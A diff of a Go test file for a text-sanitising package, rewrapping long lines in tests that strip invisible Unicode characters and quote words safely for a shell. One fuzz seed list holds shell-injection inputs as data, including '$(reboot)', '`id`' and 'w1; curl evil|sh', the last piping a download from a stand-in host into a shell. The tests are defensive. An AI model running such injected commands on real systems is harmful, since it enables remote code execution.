@@ -50,16 +50,20 @@ func TestATextIsOneSafeLine(t *testing.T) {
 // Two names that are different must not look the same on the screen.
 func TestNothingThatIsNotSeenStays(t *testing.T) {
 	for name, r := range map[string]rune{
-		"a soft hyphen": 0xad, "a grapheme joiner": 0x34f, "an Arabic letter mark": 0x61c, "a Hangul filler": 0x3164, "a Hangul initial filler": 0x115f,
+		"a soft hyphen": 0xad, "a grapheme joiner": 0x34f, "an Arabic letter mark": 0x61c, "a Hangul filler": 0x3164, "a Hangul initial " +
+			"filler": 0x115f,
 		"a Hangul medial filler": 0x1160, "a half-width Hangul filler": 0xffa0, "a Khmer inherent vowel": 0x17b4, "a Mongolian separator": 0x180e,
-		"a Mongolian selector": 0x180b, "another Mongolian selector": 0x180f, "a word joiner": 0x2060, "an invisible plus": 0x2064, "one that is not assigned": 0x2065,
+		"a Mongolian selector": 0x180b, "another Mongolian selector": 0x180f, "a word joiner": 0x2060, "an invisible plus": 0x2064, "one that " +
+			"is not assigned": 0x2065,
 		"Braille without dots": 0x2800, "a variation selector": 0xfe0f, "a further one": 0xe0100, "a language tag": 0xe0001, "a tag": 0xe0061,
-		"a reserved tag": 0xe0080, "a note without a head": 0x1d159, "a beam": 0x1d173, "a Khitan filler": 0x16fe4, "a whole blank": 0x13441, "a half blank": 0x13442, "a shorthand control": 0x1bca0,
+		"a reserved tag": 0xe0080, "a note without a head": 0x1d159, "a beam": 0x1d173, "a Khitan filler": 0x16fe4, "a whole " +
+			"blank": 0x13441, "a half blank": 0x13442, "a shorthand control": 0x1bca0,
 	} {
 		t.Run(name, func(t *testing.T) {
 			with := "web" + string(r) + "-1"
 			for way, got := range map[string]string{
-				"Line": text.Line(with), "Block": text.Block(with), "Spaced": text.Spaced(with), "Visible": text.Visible(with), "Quote": text.Quote(with),
+				"Line": text.Line(with), "Block": text.Block(with), "Spaced": text.Spaced(with), "Visible": text.Visible(with),
+				"Quote":   text.Quote(with),
 				"Command": text.Command(with), "Sprintf": text.Sprintf("%s", with),
 			} {
 				if got != "web-1" {
@@ -137,7 +141,8 @@ func TestALineToCopyIsNotCutBeforeTheWholeTextIs(t *testing.T) {
 	if got := text.Lines("a\n\n" + long); len(got) != 2 || got[1] != strings.TrimSpace(long) {
 		t.Errorf("%d lines: %.80q", len(got), got)
 	}
-	if got := strings.Join(text.Lines(strings.Repeat(long+"\n", 50)), "\n"); utf8.RuneCountInString(got) > text.MaxBlock+100 || !strings.HasSuffix(got, "…") {
+	if got := strings.Join(text.Lines(strings.Repeat(long+"\n", 50)), "\n"); utf8.RuneCountInString(got) > text.MaxBlock+100 ||
+		!strings.HasSuffix(got, "…") {
 		t.Errorf("%d characters that end in %q", len(got), got[len(got)-10:])
 	}
 }
@@ -160,7 +165,8 @@ func TestJSONMeansTheSameAndObeysNobody(t *testing.T) {
 func TestAWordIsWholeOrNotTaken(t *testing.T) {
 	for word, want := range map[string]bool{
 		`{"a":"it's  two"}`: true, "": true, "worker-1": true, strings.Repeat("x", text.MaxWord): true,
-		strings.Repeat("x", text.MaxWord+1): false, "a\nb": false, "a\tb": false, "a\x1bb": false, "a\u202eb": false, "a\xffb": false, "a\u00a0b": false,
+		strings.Repeat("x", text.MaxWord+1): false, "a\nb": false, "a\tb": false, "a\x1bb": false, "a\u202eb": false, "a\xffb": false,
+		"a\u00a0b": false,
 	} {
 		if _, got := text.Whole(word); got != want {
 			t.Errorf("%.40q is whole: %t, want %t", word, got, want)
@@ -173,7 +179,8 @@ func TestAWordIsWholeOrNotTaken(t *testing.T) {
 }
 
 func FuzzAWordIsOneWordToAShell(f *testing.F) {
-	for _, seed := range []string{"", "worker-1", "it's", "$(reboot)", "`id`", "a b", "~root", "-rf", "*", "a\nb", "w1; curl evil|sh", "\x1b", "{a,b}", "#x", "\\"} {
+	for _, seed := range []string{"", "worker-1", "it's", "$(reboot)", "`id`", "a b", "~root", "-rf", "*", "a\nb", "w1; curl evil|sh", "\x1b",
+		"{a,b}", "#x", "\\"} {
 		f.Add(seed)
 	}
 	shell, err := exec.LookPath("sh")
@@ -243,7 +250,8 @@ func FuzzNoArgumentMakesALine(f *testing.F) {
 		pointer, list := &s, []string{s, s}
 		for _, args := range [][]any{
 			{s, n, x, yes}, {errors.New(s), []byte(s), map[string]string{s: s}, &list}, {plainType(s), named{s}, list, struct{ A, b string }{s, s}},
-			{pointer, &pointer, []any{s, n, []error{errors.New(s)}}, time.Duration(n)}, {fmt.Errorf("x: %w", errors.New(s)), []named{{s}}, [2]string{s, s}, nil},
+			{pointer, &pointer, []any{s, n, []error{errors.New(s)}}, time.Duration(n)}, {fmt.Errorf("x: %w", errors.New(s)), []named{{s}},
+				[2]string{s, s}, nil},
 		} {
 			for _, verb := range []string{"%v", "%s", "%q", "%+v", "%-8v", "%x"} {
 				got := text.Sprintf("ours "+strings.Repeat(verb+" ", len(args))+"\n", args...)
@@ -277,7 +285,8 @@ func FuzzWhatIsShownIsHarmless(f *testing.F) {
 				t.Errorf("%q holds %U", s, r)
 			}
 		}
-		if spaced, visible := text.Spaced(s), text.Visible(s); utf8.RuneCountInString(spaced) > text.MaxLine || strings.ContainsFunc(spaced+visible, func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) }) || strings.Contains(spaced, "\n") {
+		if spaced, visible := text.Spaced(s), text.Visible(s); utf8.RuneCountInString(spaced) > text.MaxLine ||
+			strings.ContainsFunc(spaced+visible, func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) }) || strings.Contains(spaced, "\n") {
 			t.Errorf("%q is laid out as %q", s, spaced)
 		}
 		for _, l := range strings.Split(block, "\n")[1:] {
